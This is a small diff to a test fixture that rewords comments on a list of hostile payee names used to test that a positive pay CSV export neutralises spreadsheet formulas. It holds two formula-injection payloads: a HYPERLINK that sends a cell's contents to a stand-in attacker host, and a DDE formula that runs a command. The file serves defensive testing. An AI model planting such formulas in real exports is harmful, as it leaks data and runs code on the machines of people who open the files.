@@ -1,6 +1,6 @@
-// Inputs of issue 22 shared by several tests.
+// Hostile inputs shared by several tests.
 
-/** The payee names of issue 22 that used to reach the positive pay CSV as live formulas. */
+/** The payee names that used to reach the positive pay CSV as live formulas. */
 export const FORMULA_NAMES = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
   "+cmd|' /C calc'!A0",
